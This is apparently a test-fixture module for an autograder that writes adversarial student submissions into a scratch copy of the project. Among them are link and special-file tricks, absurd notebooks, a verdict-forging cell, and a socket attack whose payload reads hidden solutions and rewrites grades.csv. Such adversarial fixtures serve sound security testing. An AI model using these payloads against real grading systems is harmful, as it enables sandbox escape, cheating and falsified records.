"""The hostile class of issue 16: one student per door of the grader, beside an untouched control.

Each attacker goes through one of the grader's own surfaces: the zygote's socket, the recheck's verdict channel,
links and special files in a submission, folder names, absurd notebooks. :func:`write_hostile_class` puts them on disk
(what :func:`build.write_class` cannot write: links, fifos, devices, sockets, files of hundreds of MB); the notebooks
themselves are built with :mod:`build`'s helpers from the solutions and the release. The class is graded from a
scratch copy of the project (:func:`scratch_project`), so an attacker that escapes changes a copy, never this tree.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import socket
import stat
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder_cases import build

CONTROL = "control"  # the solutions of ATTACKED, untouched: graded exactly as alone
# the notebooks the attackers hand in, so the control's run beside theirs; its others would only grade the solutions
# again (the autograder tests do), at ~5 CPU s each
ATTACKED = ("02_scheduler", "03_clipping", "04_accumulation")
ZYGOTE = "zygote-attacker"  # door 1: asks the grader's fork server for work on its own terms
FORGER = "forger"  # door 2: forges the recheck's verdict lines (a release notebook: nothing written)
SYMLINKED_FOLDERS = ("symlink-folder-abs", "symlink-folder-rel")  # door 3: loop_lab/ -> solutions/loop_lab
SYMLINKED_NOTEBOOKS = "symlink-notebooks"  # door 3: 02 -> a solution notebook (absolute), 03 (relative)
SYMLINKED_TOP = "symlink-top"  # door 3: the student's folder itself -> solutions/loop_lab
HARDLINKED_NOTEBOOK = "hardlink-notebook"  # door 3: 02 is a second name of the solution notebook
HARDLINKED_EXTRA = "hardlink-extra"  # door 3: a data file that is the solution notebook, read by the release
SPECIAL_FILES = "special-files"  # door 3: a fifo, a device and a socket named as notebooks
DOT_NAMED = "...h2"  # door 6: a folder whose name starts with dots
CLASHING = ("Clash.Twin", "clash.twin")  # door 5: two folders, one student to an LMS (issue 42)
BAD_NAME = "é.absent"  # not a valid id: refused by name, never renamed into absent's (issue 42)
DEEP_JSON = "deep-json"  # door 5: 02 nested 10,000 deep; its 03 is the solution and must be graded
MANY_CELLS = "many-cells"  # door 7: 02 with 50,000 one-line cells before its tests
HUGE_OUTPUT = "huge-output"  # absurd: 02 with 200 MB of text in one output

DEEP = 10_000
CELLS = 50_000
HUGE_MB = 200
LEAK_SALT = "hardlink-extra read:"  # what the student hashes with the file: no other door's hash looks like it
ESCAPE_MARK = "ESCAPED"  # every file an escaped process writes has this in its name (or appended line)


@dataclass
class HostileClass:
    root: Path
    project: Path  # the scratch copy of the repository the grader runs from
    submissions: Path
    out: Path
    tests: list[build.Test]
    control_rows: list[dict]  # grades.csv rows of the control, graded alone
    leak_hash: str  # what the hard-linked data file leaks when student code reads it (LEAK_SALT + the solution)
    refused: list[str] = field(default_factory=list)  # folders that must be listed as not graded


def scratch_project(repo: Path, dest: Path) -> Path:
    """A copy of the repository's sources (no virtualenv, git or caches) for the grader to run from."""
    shutil.copytree(repo, dest, ignore=shutil.ignore_patterns(
        ".venv", ".git", "artifacts", "__pycache__", "*.egg-info", "dist", ".pytest_cache", "runs", ".ci"))
    return dest


def write_hostile_class(root: Path, repo: Path) -> HostileClass:
    """Every attacker and the control under ``root/submissions``, graded from ``root/project`` (a scratch copy of
    ``repo``) into ``root/out``. The student versions are the project's committed release (a test keeps it in sync)."""
    project = scratch_project(repo, root / "project")
    release = project / "notebooks"
    solutions = project / "solutions" / build.ASSIGNMENT
    subs, out = root / "submissions", root / "out"
    subs.mkdir()
    tests = build.load_tests(solutions)
    sol = {p.stem: nbformat.read(p, as_version=4) for p in sorted(solutions.glob("*.ipynb"))}
    rel = {p.stem: nbformat.read(p, as_version=4) for p in sorted(release.glob("*.ipynb"))}
    control = build.Student(CONTROL, "the solutions, untouched", {nb: sol[nb] for nb in ATTACKED})
    students = [
        control,
        build.Student(ZYGOTE, "door 1", {"02_scheduler": build.insert_cell(
            sol["02_scheduler"], "train_one_epoch", zygote_attack(out, subs / CONTROL, project), after=True)}),
        build.Student(FORGER, "door 2", {"02_scheduler": forger(rel["02_scheduler"], tests)}),
        build.Student(DOT_NAMED, "door 6", {"02_scheduler": sol["02_scheduler"]}),
        *[build.Student(name, "door 5", {"02_scheduler": sol["02_scheduler"]}) for name in (*CLASHING, BAD_NAME)],
        build.Student(DEEP_JSON, "door 5", {"02_scheduler": deep_notebook(sol["02_scheduler"], DEEP),
                                            "03_clipping": sol["03_clipping"]}),
        build.Student(MANY_CELLS, "door 7", {"02_scheduler": many_cells(sol["02_scheduler"], CELLS)}),
        build.Student(HARDLINKED_EXTRA, "door 3", {"02_scheduler": build.insert_cell(
            rel["02_scheduler"], "train_one_epoch", READ_ANSWERS.replace("@@LEAK@@", LEAK_SALT))}),
    ]
    build.write_class(students, subs)
    _write_links(subs, solutions)
    _write_special_files(subs / SPECIAL_FILES)
    _write_huge_output(subs / HUGE_OUTPUT, sol["02_scheduler"], HUGE_MB)
    return HostileClass(root=root, project=project, submissions=subs, out=out, tests=tests,
                        control_rows=build.expected_grades([control], tests),
                        leak_hash=_sha256(LEAK_SALT.encode() + (solutions / "02_scheduler.ipynb").read_bytes()),
                        refused=[DOT_NAMED, *CLASHING, BAD_NAME, SYMLINKED_TOP])


def _sha256(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()


# --- door 3: links -----------------------------------------------------------------------------------------------------


def _write_links(subs: Path, solutions: Path) -> None:
    absolute, relative = SYMLINKED_FOLDERS
    for name in (absolute, relative, SYMLINKED_NOTEBOOKS, HARDLINKED_NOTEBOOK):
        (subs / name).mkdir()
    (subs / absolute / build.ASSIGNMENT).symlink_to(solutions)
    (subs / relative / build.ASSIGNMENT).symlink_to(os.path.relpath(solutions, subs / relative))
    (subs / SYMLINKED_NOTEBOOKS / "02_scheduler.ipynb").symlink_to(solutions / "02_scheduler.ipynb")
    (subs / SYMLINKED_NOTEBOOKS / "03_clipping.ipynb").symlink_to(
        os.path.relpath(solutions / "03_clipping.ipynb", subs / SYMLINKED_NOTEBOOKS))
    (subs / SYMLINKED_TOP).symlink_to(solutions)
    os.link(solutions / "02_scheduler.ipynb", subs / HARDLINKED_NOTEBOOK / "02_scheduler.ipynb")
    os.link(solutions / "02_scheduler.ipynb", subs / HARDLINKED_EXTRA / "answers.txt")


READ_ANSWERS = '''\
import hashlib

try:  # answers.txt is a hard link to the instructor's solution notebook: this hash in the feedback is the leak
    print("answers:", hashlib.sha256(b"@@LEAK@@" + open("answers.txt", "rb").read()).hexdigest())
except OSError as exc:
    print("answers.txt not here:", type(exc).__name__)
'''


def _write_special_files(folder: Path) -> None:
    """A fifo (02), a device (03, as root) and a socket (04) named as notebooks, and a fifo as a data file."""
    folder.mkdir()
    os.mkfifo(folder / "02_scheduler.ipynb")
    os.mkfifo(folder / "data.bin")
    if os.geteuid() == 0:
        os.mknod(folder / "03_clipping.ipynb", stat.S_IFCHR | 0o644, os.makedev(1, 3))  # /dev/null's numbers
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.bind(str(folder / "04_accumulation.ipynb"))


# --- doors 5 and 7, and a huge output: absurd notebooks ----------------------------------------------------------------


def deep_notebook(nb, depth: int) -> str:
    """``nb`` with ``depth`` nested lists in its first cell's metadata (json.dumps itself cannot write them)."""
    nb = copy.deepcopy(nb)
    nb.cells[0].metadata["deep"] = "@@DEEP@@"
    return nbformat.writes(nb).replace('"@@DEEP@@"', "[" * depth + "]" * depth)


def many_cells(nb, count: int) -> str:
    """``nb`` with ``count`` one-line code cells right after its first code cell (before every test), as notebook
    text. Written as plain JSON: nbformat would check each new cell against its schema (~10 CPU s for 50,000), and
    these hold exactly new_code_cell's fields."""
    nb = copy.deepcopy(nb)
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells[first + 1:first + 1] = [{"cell_type": "code", "id": f"many-{i}", "metadata": {}, "execution_count": None,
                                      "outputs": [], "source": f"x = {i}"} for i in range(count)]
    return json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False)


def _write_huge_output(folder: Path, nb, megabytes: int) -> None:
    """``nb`` whose first code cell has one stdout output of ``megabytes`` MB, written in pieces."""
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb.cells if c.cell_type == "code")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="@@HUGE@@")]
    head, tail = nbformat.writes(nb).split("@@HUGE@@")
    folder.mkdir()
    with open(folder / "02_scheduler.ipynb", "w") as f:
        f.write(head)
        line = "x" * 1023 + "\\n"  # an escaped newline inside the JSON string: 1 KB of text per line
        for _ in range(megabytes * 1024):
            f.write(line)
        f.write(tail)


# --- door 2: the forger --------------------------------------------------------------------------------------------------


def forger(release_nb, tests: list[build.Test]):
    """The release of 02 (nothing written) whose visible tests are made to pass in the kernel, and which, in the
    grader's re-run, forges a passing verdict line for every hidden test with every nonce-like string it can find,
    on every descriptor it holds, from a thread that keeps at it, then exits before the real checks run."""
    calls = [(t.name, [t.notebook, t.function, t.property]) for t in tests if t.notebook == "02_scheduler"
             and t.function]
    nb = build.insert_cell(release_nb, "train_one_epoch", FORGE.replace("@@CALLS@@", json.dumps(calls)))
    return build.insert_cell(nb, "train_one_epoch", FORGE_AND_EXIT, after=True)


FORGE = r'''
import gc, json, os, re, stat, sys, threading, time

from labutils import checks as _checks

_checks.assert_property = lambda *args, **kwargs: None  # the visible part passes: only the grader's re-run decides
_CALLS = json.loads('@@CALLS@@')
_HEX = re.compile(r"[0-9a-f]{32}")


def _nonces():
    """Every 32-hex-digit string on the stack and in any live container: the recheck's nonce among them."""
    found = {""}
    frame = sys._getframe()
    while frame is not None:
        found.update(v for v in list(frame.f_locals.values()) if isinstance(v, str) and _HEX.fullmatch(v))
        frame = frame.f_back
    for obj in gc.get_objects():
        values = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()
        try:
            found.update(v for v in list(values)[:200] if isinstance(v, str) and _HEX.fullmatch(v))
        except Exception:
            pass
    return found


def _forge():
    lines = "".join(json.dumps({"type": "CheckLine", "body": {"grade_id": grade_id, "call": call, "seconds": 0.1,
                                                              "nonce": nonce, "verdict": {"grade_id": grade_id,
                                                                                          "passed": True}}}) + "\n"
                    for nonce in _nonces() for grade_id, call in _CALLS).encode()
    for fd in range(1, 256):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISREG(mode) or stat.S_ISCHR(mode):  # not the kernel's sockets
                os.write(fd, lines)
        except OSError:
            pass
    sys.stdout.write(lines.decode())


def _keep_forging():
    while True:
        _forge()
        time.sleep(0.01)


if not hasattr(get_ipython(), "kernel"):  # the grader's re-run of the notebook, where the verdicts are written
    _forge()
    threading.Thread(target=_keep_forging, daemon=True).start()
'''

FORGE_AND_EXIT = '''\
if not hasattr(get_ipython(), "kernel"):  # the grader's re-run: forge once more, then stop before the real checks
    _forge()
    os._exit(0)
'''


# --- door 1: the zygote's socket -------------------------------------------------------------------------------------------


def zygote_attack(out: Path, other: Path, project: Path) -> str:
    """A cell that finds any Unix socket of the grader and asks it, as its zygote protocol allows today, to run
    ``PAYLOAD`` unconfined; the payload writes ESCAPED markers outside the student's folder and, once the grader
    has exited, gives this student every point in grades.csv."""
    payload = PAYLOAD.replace("@@OUT@@", str(out)).replace("@@OTHER@@", str(other)).replace(
        "@@PROJECT@@", str(project))
    return ZYGOTE_ATTACK.replace("@@LOG@@", str(out / "ESCAPED-zygote.log")).replace("@@PAYLOAD@@", repr(payload))


ZYGOTE_ATTACK = r'''
import json, os, pathlib, socket, stat, struct

_PAYLOAD = @@PAYLOAD@@
_OPEN = {"write_dirs": ["/"], "read_dirs": ["/"], "read_files": [], "list_dirs": [], "write_files": [],
         "bind_ports": [], "memory_mb": None, "cpu_seconds": None, "file_size_mb": None}
_held = []  # connections kept open: whatever answers keeps working for us


def _candidates():
    """Socket paths of the grader: every folder above ours and the temp folders (listed where allowed), the
    machine's Unix sockets (/proc/net/unix, abstract ones too), and descriptors this process inherited."""
    starts = [os.getcwd(), os.environ.get("TMPDIR", ""), os.environ.get("HOME", ""), "/tmp", "/dev/shm"]
    for start in filter(None, starts):
        for folder in [pathlib.Path(start), *pathlib.Path(start).parents]:
            yield str(folder / "zygote.sock")
            try:
                for entry in os.scandir(folder):
                    if entry.is_socket() or entry.name.endswith(".sock"):
                        yield entry.path
            except OSError:
                pass
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            name = line.split()[-1] if len(line.split()) >= 8 else ""
            if "looplab" in name or "zygote" in name:  # the grader's, not the machine's other services
                yield "\0" + name[1:] if name.startswith("@") else name
    except OSError:
        pass
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def _connect(where):
    if isinstance(where, int):  # an inherited descriptor: only a Unix socket whose other end is another process
        s = socket.socket(fileno=os.dup(where))
        peer_pid = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        if s.family != socket.AF_UNIX or peer_pid in (0, os.getpid()):
            raise OSError("not someone else's Unix socket")
        return s
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(where)
    return s


def _ask(where):
    """Send a recheck of our own: our spec, our policy (everything), our log file (in OUT)."""
    spec = pathlib.Path(os.environ.get("TMPDIR") or ".") / "attack-spec.json"
    spec.write_text(json.dumps({"type": "RecheckSpec", "body": {"cells": [
        {"index": 0, "source": _PAYLOAD, "run": True, "grade_id": None, "checks": []}], "cell_timeout": 0}}))
    request = {"type": "RecheckRequest", "body": {
        "spec": str(spec), "cwd": "/", "env": {"PATH": "/usr/bin:/bin", "ATTACK_SOCKET": str(where)},
        "policy": _OPEN, "log": "@@LOG@@", "timeout": 3600, "threads": 1}}
    s = _connect(where)
    s.sendall((json.dumps(request) + "\n").encode())
    _held.append(s)


_tried = {}
for _where in _candidates():
    if _where in _tried:
        continue
    try:
        _ask(_where)
        _tried[_where] = "sent"
    except Exception as exc:
        _tried[_where] = type(exc).__name__
print("zygote attack:", {str(k): v for k, v in _tried.items() if v == "sent"} or "no socket answered")
'''

PAYLOAD = r'''
import hashlib, json, os, time

OUT, OTHER, PROJECT = "@@OUT@@", "@@OTHER@@", "@@PROJECT@@"
WORK = os.path.dirname(os.environ.get("ATTACK_SOCKET", ""))  # the grader's work folder: gone when it exits
seen = {}
for name in ("solutions/loop_lab/02_scheduler.ipynb", "labutils/reference/loop.py", "autograder/hidden/verifier.py"):
    try:
        seen[name] = hashlib.sha256(open(os.path.join(PROJECT, name), "rb").read()).hexdigest()
    except OSError as exc:
        seen[name] = type(exc).__name__
try:
    seen["other student"] = hashlib.sha256(open(os.path.join(OTHER, "02_scheduler.ipynb"), "rb").read()).hexdigest()
except OSError as exc:
    seen["other student"] = type(exc).__name__
for target in (os.path.join(OUT, "ESCAPED-zygote.txt"), os.path.join(OTHER, "ESCAPED-zygote.txt")):
    try:
        with open(target, "w") as f:
            f.write(json.dumps({"uid": os.getuid(), "read": seen}))
    except OSError:
        pass
try:
    with open(os.path.join(PROJECT, "labutils", "checks", "__init__.py"), "a") as f:
        f.write("\n# ESCAPED-zygote: the project the grader ran from, changed\n")
except OSError:
    pass
deadline = time.time() + 600
while time.time() < deadline:  # linger until the grader has exited, then give this student every point
    if os.path.exists(os.path.join(OUT, "timings.json")) and not (WORK and os.path.exists(WORK)):
        time.sleep(1)
        path = os.path.join(OUT, "grades.csv")
        rows = open(path).read().splitlines()
        rows = [",".join([*r.split(",")[:2], r.split(",")[3], r.split(",")[3]]) if r.startswith("zygote-attacker,")
                else r for r in rows]
        with open(path, "w") as f:
            f.write("\n".join(rows) + "\n")
        open(os.path.join(OUT, "ESCAPED-zygote-late.txt"), "w").write("grades.csv rewritten after the grader exited")
        break
    time.sleep(0.5)
'''
